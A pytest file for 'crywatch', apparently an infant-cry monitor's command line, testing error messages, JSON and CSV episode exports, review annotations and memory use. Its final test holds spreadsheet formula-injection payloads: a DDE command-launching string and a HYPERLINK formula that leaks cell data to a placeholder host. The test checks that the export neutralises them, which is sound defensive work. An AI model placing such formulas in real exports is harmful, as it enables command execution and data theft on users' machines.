"""The command line as a user meets it: one-line errors, exit codes, JSON shapes."""
import csv
import io
import json
import re
import subprocess
import sys
from dataclasses import replace
from datetime import datetime, timedelta, timezone

import numpy as np
import soundfile

from monitor.bus import Envelope
from monitor.classify import Head
from monitor.config import settings_from_dict
from monitor.messages import EpisodeClosed, EpisodeOpened, EpisodeSummary
from monitor.store import StoreWriter, annotate, list_episodes, open_engine
from tests.conftest import PROJECT_ROOT, cry_path, crywatch_command, pick, run_crywatch
from tests.test_store import T0, _envelope


def _one_line_error(result, *needles: str) -> None:
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("crywatch: error: "), result.stderr
    for needle in needles:
        assert needle in lines[0]


def test_bad_config_key(tmp_path):
    config = tmp_path / "c.toml"
    config.write_text('[audio]\nmicrophone = "usb"\n')
    _one_line_error(run_crywatch("--config", str(config), "run", "--headless"), "audio.microphone", "unknown key")


def test_missing_and_empty_audio(tmp_path):
    _one_line_error(run_crywatch("run", "--headless", "--input", str(tmp_path / "none.wav")), "none.wav", "not found")
    empty = tmp_path / "empty.wav"
    soundfile.write(empty, np.zeros(0), 16000)
    _one_line_error(run_crywatch("run", "--headless", "--input", str(empty)), "holds no samples")


def test_unknown_scenario_lists_the_known_ones():
    _one_line_error(run_crywatch("run", "--headless", "--input", "scenario:ward"), "scenario:nicu", "scenario:quiet")


def test_head_embedder_mismatch_names_both(settings, tmp_path):
    head = Head.load(settings.classifier.head_path())
    other = Head("other-head", "hear-torch@9b2eb2853c42", head.dim, head.classes, head.thresholds, 1.0,
                 head.mean, head.scale, head.layers)
    other.save(tmp_path / "other")
    config = tmp_path / "c.toml"
    config.write_text(f'[classifier]\nhead = "{tmp_path / "other"}"\n')
    _one_line_error(run_crywatch("--config", str(config), "analyze", "x.wav"),
                    "'hear-torch@9b2eb2853c42'", f"running embedder is '{settings.classifier.embedder}'")


def test_a_microphone_that_is_not_there(tmp_path):
    config = tmp_path / "c.toml"
    config.write_text('[audio]\ndevice = "no-such-microphone-xyz"\n')
    result = run_crywatch("--config", str(config), "run", "--headless", "--input", "mic")
    assert result.returncode == 2
    assert "crywatch devices" in result.stderr or "libportaudio2" in result.stderr, result.stderr


def test_an_unwritable_database_is_a_technical_alarm_while_the_bed_is_watched(tmp_path):
    """Issue 17: it used to be exit 2 before listening, leaving the bed unwatched until the log came back."""
    result = run_crywatch("run", "--headless", "--input", "scenario:quiet", "--speed", "0",
                          "--db", f"sqlite:///{tmp_path}/no/such/dir/log.db")
    assert result.returncode == 0, result.stderr
    assert "LOG NOT WRITING" in result.stdout and "cannot open database" in result.stderr
    assert "no/such/dir/log.db" in result.stderr and "never took" in result.stderr


def test_analyze_json_and_a_bad_file_among_good_ones(cries_index, tmp_path):
    [cry] = pick(cries_index, 1, source="corvin", label="pain")
    junk = tmp_path / "junk.flac"
    junk.write_bytes(b"garbage")
    result = run_crywatch("analyze", "--json", str(cry_path(cry)), str(junk))
    assert result.returncode == 2 and "junk.flac is not readable audio" in result.stderr
    good, bad = json.loads(result.stdout)
    assert set(good) >= {"path", "duration_s", "probs", "episodes"} and "error" in bad
    assert good["probs"]["cry"] == round(1 - good["probs"]["not_cry"], 4)
    [episode] = good["episodes"]
    assert set(episode) == {"start_s", "end_s", "detected_s", "label", "probs", "peak", "alert", "alerts", "alarms",
                            "windows", "crying_s", "bouts", "f0_median_hz", "high_pitch_s", "high_pitch_share", "evidence"}


def test_analyze_a_file_with_no_gated_window_reports_no_evidence(tmp_path):
    quiet = tmp_path / "hum.wav"
    t = np.arange(3 * 16000) / 16000
    soundfile.write(quiet, 0.01 * np.sin(2 * np.pi * 50 * t), 16000)
    [result] = json.loads(run_crywatch("analyze", "--json", str(quiet)).stdout)
    assert result["probs"]["cry"] == 0 and result["probs"]["pain"] is None and result["episodes"] == []


def test_episodes_command_reads_what_run_logged(tmp_path):
    db = f"sqlite:///{tmp_path / 'log.db'}"
    assert run_crywatch("run", "--headless", "--input", "scenario:nicu", "--speed", "0", "--db", db,
                        "--bus", "tcp://127.0.0.1:*").returncode == 0
    episodes = json.loads(run_crywatch("episodes", "--db", db, "--json").stdout)
    assert episodes and all(e["end"] is not None and e["start"].endswith("+00:00") for e in episodes)
    assert json.loads(run_crywatch("episodes", "--db", db, "--json", "--since", "2999-01-01T00:00:00").stdout) == []
    _one_line_error(run_crywatch("episodes", "--db", db, "--since", "yesterday"), "ISO 8601")
    # Review from the command line: annotate one, filter on it, export it with its review.
    first = episodes[0]["id"]
    annotated = run_crywatch("annotate", str(first), "other", "--by", "ab", "--note", "synthetic scenario", "--db", db)
    assert annotated.returncode == 0 and f"episode {first}: other by AB" in annotated.stdout
    _one_line_error(run_crywatch("annotate", str(first), "hungry", "--by", "ab", "--db", db), "use one of")
    _one_line_error(run_crywatch("annotate", str(first), "other", "--by", "a b", "--db", db), "staff initials")
    unreviewed = json.loads(run_crywatch("episodes", "--db", db, "--json", "--unreviewed").stdout)
    assert first not in [e["id"] for e in unreviewed] and len(unreviewed) == len(episodes) - 1
    rows = list(csv.DictReader(io.StringIO(run_crywatch("episodes", "--db", db, "--format", "csv").stdout)))
    exported = next(r for r in rows if r["id"] == str(first))
    assert (exported["review_verdict"], exported["review_by"], exported["review_note"]) == ("other", "AB",
                                                                                              "synthetic scenario")


def test_episodes_shows_each_spells_length_and_crying_time_and_exports_them(tmp_path):
    """A real log: a spell of 3:05 with 2:40 of crying (a fifth of its voiced crying high-pitched), one as a log
    written before spells has it, and one still going (its length to its newest cry frame)."""
    db = f"sqlite:///{tmp_path / 'log.db'}"
    writer = StoreWriter(open_engine(db), "run-1", "bed-7", "mic", "acoustic-v2", "acoustic-v2",
                         lambda s: T0 + timedelta(seconds=s))
    spell = EpisodeSummary(1, 0.0, 185.0, 185.0, 0.5, "pain", {"not_cry": 0.3, "pain": 0.7}, {"pain": 0.9}, 9,
                           crying_s=160.0, bouts=4, voiced_s=100.0, high_pitch_s=20.0, f0_median_hz=620.0)
    before_spells = replace(spell, number=2, start_s=600.0, end_s=640.0, last_s=640.0, crying_s=0.0, bouts=0,
                            voiced_s=0.0, high_pitch_s=0.0, f0_median_hz=None)
    going = replace(spell, number=3, start_s=4000.0, end_s=None, last_s=7720.0, crying_s=3000.0)
    writer.write([_envelope(e) for e in (EpisodeOpened(0, replace(spell, end_s=None)), EpisodeClosed(0, spell),
                                         EpisodeOpened(0, replace(before_spells, end_s=None)),
                                         EpisodeClosed(0, before_spells), EpisodeOpened(0, going))])
    shown = run_crywatch("episodes", "--db", db)
    assert shown.returncode == 0, shown.stderr
    lines = shown.stdout.splitlines()
    assert len(lines) == 3 and all(re.fullmatch(r"\s+\d+ 2026-11-27T.* bed-7 .* pain +p=0\.70  length .*", line)
                                   for line in lines), lines
    assert [line[line.index("length"):] for line in lines] == ["length  3:05  crying  2:40  high-pitched  20 %",
                                                               "length  0:40  crying  0:00  high-pitched     -",
                                                               "length 1:02:00  crying 50:00  high-pitched  20 %"]
    rows = list(csv.DictReader(io.StringIO(run_crywatch("episodes", "--db", db, "--format", "csv").stdout)))
    assert [{k: r[k] for k in ("end", "length_s", "crying_s", "bouts", "f0_median_hz", "high_pitch_s")} for r in rows] == [
        {"end": "2026-11-27T08:03:05+00:00", "length_s": "185.0", "crying_s": "160.0", "bouts": "4", "f0_median_hz": "620.0",
         "high_pitch_s": "20.0"},
        {"end": "2026-11-27T08:10:40+00:00", "length_s": "40.0", "crying_s": "0.0", "bouts": "0", "f0_median_hz": "",
         "high_pitch_s": "0.0"},
        {"end": "", "length_s": "3720.0", "crying_s": "3000.0", "bouts": "4", "f0_median_hz": "620.0", "high_pitch_s": "20.0"}]
    exported = json.loads(run_crywatch("episodes", "--db", db, "--json").stdout)
    assert [(e["length_s"], e["crying_s"], e["high_pitch_share"]) for e in exported] == [(185.0, 160.0, 0.2),
                                                                                        (40.0, 0.0, None),
                                                                                        (3720.0, 3000.0, 0.2)]


def test_an_hour_of_48_khz_stereo_is_analysed_in_bounded_memory(tmp_path):
    """Decoding and resampling stream block by block: peak memory does not grow with the file."""
    path = tmp_path / "hour.flac"
    rng = np.random.default_rng(0)
    t = np.arange(48_000 * 60) / 48_000
    tone = 0.1 * np.sin(2 * np.pi * 960 * t) * ((t % 20) < 0.3)  # the same in every minute: made once
    with soundfile.SoundFile(path, "w", 48_000, 2, subtype="PCM_16", format="FLAC") as f:
        for minute in range(60):  # quiet room noise with a beep now and then: small as FLAC, real to decode
            noise = 0.001 * rng.standard_normal(len(t))
            f.write(np.stack([tone + noise, noise], axis=1).astype(np.float32))
    # The child reports its own high-water mark (VmHWM starts afresh at exec; rusage would also count
    # the pytest process it was forked from).
    report = "import sys; from monitor.cli import main; rc = main(sys.argv[1:]); " \
             "print(open('/proc/self/status').read(), file=sys.stderr); sys.exit(rc)"
    done = subprocess.run([sys.executable, "-c", report, "analyze", "--json", str(path)], cwd=PROJECT_ROOT,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    [result] = json.loads(done.stdout)
    peak_mb = int(re.search(r"VmHWM:\s+(\d+) kB", done.stderr).group(1)) / 1024
    print(f"\n1 h of 48 kHz stereo: peak RSS {peak_mb:.0f} MB")
    assert result["duration_s"] == 3600.0 and peak_mb < 400


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+1", "-2+3",
            "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def test_the_csv_export_shows_formulas_as_text_and_no_spreadsheet_runs_them(tmp_path):
    """The fault: `crywatch episodes --format csv` wrote a staff note `=cmd|' /C calc'!A0` or `=HYPERLINK(...)`,
    and bed names, verbatim: a spreadsheet opening the export runs them."""
    db = f"sqlite:///{tmp_path / 'log.db'}"
    bed = "=HYPERLINK(\"http://example.invalid\",\"bed-3\")"
    settings_from_dict({"service": {"bed": bed}})  # the config accepts it
    t0 = datetime(2026, 11, 27, 8, 0, tzinfo=timezone.utc)
    writer = StoreWriter(open_engine(db), "run-1", bed, "mic", "acoustic-v2", "acoustic-v2",
                         lambda s: t0 + timedelta(seconds=s))
    writer.write([Envelope(bed, (t0 + timedelta(seconds=20 * n + 5)).isoformat(), EpisodeClosed(
        (20 * n + 5) * 16_000, EpisodeSummary(n + 1, 20.0 * n, 20.0 * n + 5, 20.0 * n + 5, 20.0 * n + 0.5, "pain",
                                              {"not_cry": 0.2, "pain": 0.7}, {"not_cry": 0.3, "pain": 0.9}, 4)))
                  for n in range(len(FORMULAS))])
    engine = open_engine(db)
    for episode, note in zip(list_episodes(engine), FORMULAS):
        annotate(engine, episode["id"], "pain", "AB", note)  # as `crywatch annotate --note` stores it
    # As bytes: text mode would turn the note's carriage return into a newline before csv reads it.
    exported = subprocess.run(crywatch_command("episodes", "--db", db, "--format", "csv"), cwd=PROJECT_ROOT,
                              capture_output=True, timeout=120)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout.decode(), newline="")))
    assert [row["review_note"] for row in rows] == ["'" + note for note in FORMULAS]
    assert {row["bed"] for row in rows} == {"'" + bed}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [row["p"] for row in rows] == ["0.7"] * len(FORMULAS)  # numbers stay numbers
    assert [e["review"]["note"] for e in list_episodes(engine)] == FORMULAS  # the log and the JSON keep the text
